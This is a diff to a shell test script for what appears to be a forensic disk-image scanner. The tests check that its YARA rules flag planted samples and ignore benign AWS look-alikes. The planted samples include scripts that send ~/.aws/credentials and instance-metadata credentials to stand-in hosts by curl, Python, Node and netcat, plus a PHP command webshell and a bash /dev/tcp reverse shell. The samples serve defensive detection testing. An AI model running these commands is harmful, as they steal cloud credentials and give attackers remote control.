@@ -75,6 +75,49 @@ cat >"$T/home/deploy/bin/backup.sh" <<'EOF'
 region=$(curl -s http://169.254.169.254/latest/meta-data/placement/region)
 aws s3 cp /var/backups/db.gz "s3://example-backups/$region/"
 EOF
+# benign: the AWS CLI's own words about the credentials file, and loaders
+# that only read it
+mkdir -p "$T/usr/share/doc/awscli" "$T/srv/www/lib"
+cat >"$T/usr/share/doc/awscli/configure.txt" <<'EOF'
+Configuration and credential file settings
+You can save your frequently used configuration settings and credentials in
+files that are maintained by the AWS CLI.  The credentials file is located at
+~/.aws/credentials on Linux or macOS, or at C:\Users\USERNAME\.aws\credentials
+on Windows.  To install the AWS CLI first:
+  $ curl "https://awscli.amazonaws.com/awscli-exe-linux-x86_64.zip" -o "awscliv2.zip"
+  $ unzip awscliv2.zip && sudo ./aws/install
+Then run `aws configure`, which writes $HOME/.aws/credentials:
+  [default]
+  aws_access_key_id = AKIAIOSFODNN7EXAMPLE
+  aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY
+To send a test request with your new profile:
+  $ aws sts get-caller-identity --profile default
+EOF
+cat >"$T/home/deploy/bin/awsprofiles.py" <<'EOF'
+#!/usr/bin/env python3
+"""List the profiles of ~/.aws/credentials (names only, never the keys)."""
+import configparser
+import os
+
+path = os.path.expanduser("~/.aws/credentials")
+cp = configparser.ConfigParser()
+cp.read(path)
+for name in cp.sections():
+    print(name, "has a key" if cp.has_option(name, "aws_access_key_id") else "has no key")
+EOF
+cat >"$T/srv/www/lib/awsconfig.js" <<'EOF'
+// Reads the shared credentials file the way the SDK does; sends nothing.
+const fs = require('fs');
+const os = require('os');
+const path = require('path');
+function profiles() {
+  const file = path.join(os.homedir(), '.aws', 'credentials');
+  if (!fs.existsSync(file)) return [];
+  return fs.readFileSync(file, 'utf8').split('\n').filter(l => l.startsWith('[')).map(l => l.slice(1, -1));
+}
+module.exports = { profiles };
+EOF
+chmod 755 "$T/home/deploy/bin/awsprofiles.py"
 echo '{"name": "app", "version": "1.2.3", "dependencies": {"left-pad": "1.0"}}' \
   >"$T/srv/www/package.json"
 cp /usr/bin/true "$T/usr/bin/ps"
@@ -148,7 +191,33 @@ R=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)
 curl -s "http://169.254.169.254/latest/meta-data/iam/security-credentials/$R" -o /tmp/.c
 curl -s -X POST --data-binary @/tmp/.c http://198.51.100.9/c
 EOF
-chmod 755 "$T/root/.s.sh" "$T/tmp/.x.sh"
+# the credentials file sent out: a sweep of every home with curl -F (as the
+# TeamTNT scripts do), Python requests, Node https, netcat
+cat >"$T/tmp/.k.sh" <<'EOF'
+#!/bin/bash
+CSOF=/tmp/.cs
+for u in /root /home/*; do
+  [ -f "$u/.aws/credentials" ] && cat "$u/.aws/credentials" >> $CSOF
+done
+env | grep AWS_ >> $CSOF
+curl -s -F "userfile=@$CSOF" http://198.51.100.9/up.php
+rm -f $CSOF
+EOF
+cat >"$T/var/tmp/.sync.py" <<'EOF'
+import os, socket, requests
+p = os.path.expanduser("~/.aws/credentials")
+if os.path.exists(p):
+    requests.post("http://198.51.100.9/k", data={"h": socket.gethostname(), "c": open(p).read()}, timeout=5)
+EOF
+cat >"$T/home/deploy/.cache/.n.js" <<'EOF'
+const fs = require('fs'), os = require('os'), path = require('path'), https = require('https')
+const data = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'))
+const req = https.request({ hostname: 'collector.example', port: 443, path: '/c', method: 'POST' })
+req.write(data)
+req.end()
+EOF
+printf '#!/bin/sh\ncat ~/.aws/credentials | nc 198.51.100.9 4444\n' >"$T/root/.b.sh"
+chmod 755 "$T/root/.s.sh" "$T/tmp/.x.sh" "$T/tmp/.k.sh" "$T/root/.b.sh"
 printf '<?php system($_GET["c"]); ?>\n' >"$T/var/www/html/app/esc.php"
 # hostile bytes in a matched string: shown escaped, never raw
 printf 'bash -i >& /dev/tcp/evil\x1b[31m.example/4444 0>&1\n' >"$T/tmp/.y.sh"
@@ -175,18 +244,22 @@ for pr in "/var/www/html/app/up.php webshells.php_webshell_encoded_eval" \
           "/root/.s.sh credential_harvesters.imds_credentials_fetch_script" \
           "/root/.s.sh credential_harvesters.imds_credentials_exfil_script" \
           "/var/www/html/app/esc.php webshells.php_webshell_request_exec" \
-          "/var/www/html/app/big.php webshells.php_webshell_encoded_eval"; do
+          "/var/www/html/app/big.php webshells.php_webshell_encoded_eval" \
+          "/tmp/.k.sh credential_harvesters.aws_credentials_file_exfil" \
+          "/var/tmp/.sync.py credential_harvesters.aws_credentials_file_exfil" \
+          "/home/deploy/.cache/.n.js credential_harvesters.aws_credentials_file_exfil" \
+          "/root/.b.sh credential_harvesters.aws_credentials_file_exfil"; do
   set -- $pr
   check "sample $1 matched by $2" matched "$1" "$2" "$R"
 done
 check "the big file read whole: its match past the first MiB" test "$(jget "$R" '[(m["scanned_bytes"] == m["size"], m["truncated"], m["rules"][0]["strings"][0]["offset"] > 1500000) for m in r["evidence"][0]["yara"]["matches"] if m["path"] == "/var/www/html/app/big.php"]')" = "[(True, False, True)]"
-check "scope changed: only new and changed files read (10 added)" test "$(jget "$R" 'r["evidence"][0]["yara"]["selected"]')" = 10
-check "benign look-alikes (unchanged) not read, so not matched" bash -c "! grep -q 'index.php\|status.jsp\|health.py\|backup.sh' <($PY -c 'import json,sys; print(json.dumps(json.load(open(sys.argv[1]))[\"evidence\"][0][\"yara\"]))' $R)"
+check "scope changed: only new and changed files read (14 added)" test "$(jget "$R" 'r["evidence"][0]["yara"]["selected"]')" = 14
+check "benign look-alikes (unchanged) not read, so not matched" bash -c "! grep -q 'index.php\|status.jsp\|health.py\|backup.sh\|configure.txt\|awsprofiles.py\|awsconfig.js' <($PY -c 'import json,sys; print(json.dumps(json.load(open(sys.argv[1]))[\"evidence\"][0][\"yara\"]))' $R)"
 check "matched bytes escaped in report.json" grep -qF 'evil\\x1b[31m.example' "$R"
 check "no raw ESC in report.md" bash -c "! grep -q $'\x1b' '$WORK/o-v/report.md'"
 check "report.md: YARA section with the JSP rule" grep -q 'webshells.jsp_webshell_cmd' "$WORK/o-v/report.md"
 check "manifest line carries the rule" grep -q '"path":"/tmp/.x.sh".*"yara":\["reverse_shells.bash_dev_tcp_reverse_shell"\]' "$WORK/o-v/victim.img/manifest.jsonl"
-check "result line: the yara digest names the webshell" grep -q '"yara":{"scope":"changed","status":"complete","scanned":[0-9]*,"matched":10,"matches":\[.*"path":"/var/www/html/app/up.php"' "$WORK/v.out"
+check "result line: the yara digest names the webshell" grep -q '"yara":{"scope":"changed","status":"complete","scanned":[0-9]*,"matched":14,"matches":\[.*"path":"/var/www/html/app/up.php"' "$WORK/v.out"
 check "result line: the persistence places" grep -q '"persistence":\[{"kind":"cron","path":"/etc/crontab","baseline":"unchanged"}' "$WORK/v.out"
 check "the symlink was not read" bash -c "! grep -q 'link.php' <($PY -c 'import json,sys; print(json.dumps(json.load(open(sys.argv[1]))[\"evidence\"][0][\"yara\"][\"matches\"]))' $R)"
 check "timeline around the incident marks the webshell" $PY -c "
@@ -197,7 +270,7 @@ sys.exit(0 if hot and w['incident_time'] == '2026-12-04T04:00:00Z' else 1)"
 
 # ---- the shipped rules over the clean image: nothing, whatever the scope ----
 examine all --device "$WORK/clean.img" --yara-scope all --out "$WORK/o-all"
-check "clean image, scope all: every file read" test "$(jget "$WORK/o-all/report.json" 'r["evidence"][0]["yara"]["scanned"]')" = 8
+check "clean image, scope all: every file read" test "$(jget "$WORK/o-all/report.json" 'r["evidence"][0]["yara"]["scanned"]')" = 11
 check "clean image, scope all: benign look-alikes match nothing" test "$(nmatches "$WORK/o-all/report.json")" = 0
 examine off --device "$WORK/victim.img" --baseline "$WORK/base.jsonl" --yara-scope off --out "$WORK/o-off"
 check "scope off: nothing scanned" test "$(jget "$WORK/o-off/report.json" 'r["evidence"][0]["yara"]["scope"]')" = off
@@ -322,7 +395,7 @@ incomplete_says unread /var/www/html/gone.php 'read'
 check "unreadable: the other file still scanned and matched" matched /var/www/html/kept.php webshells.php_webshell_encoded_eval "$WORK/o-unread/report.json"
 
 # ---- the result line stays under SSM's 24,000 characters ----
-# 400 webshells on each of two volumes (410 matching files with the samples
+# 400 webshells on each of two volumes (414 matching files with the samples
 # above and big.php, read whole at the default cap): every list cut to its share
 mkdir -p "$T/var/www/html/many"
 for i in $(seq 1 400); do
@@ -338,7 +411,7 @@ import json, sys
 r = json.loads(open('$WORK/many.out').readline())
 for ev in r['evidence']:
     y = ev['yara']
-    assert y['matched'] == 410 and len(y['matches']) + y['matches_omitted'] == 410 and y['matches_omitted'] > 0, y['matched']
+    assert y['matched'] == 414 and len(y['matches']) + y['matches_omitted'] == 414 and y['matches_omitted'] > 0, y['matched']
     assert len(ev['top_findings']) + ev['findings_omitted'] == ev['findings']
 "
 
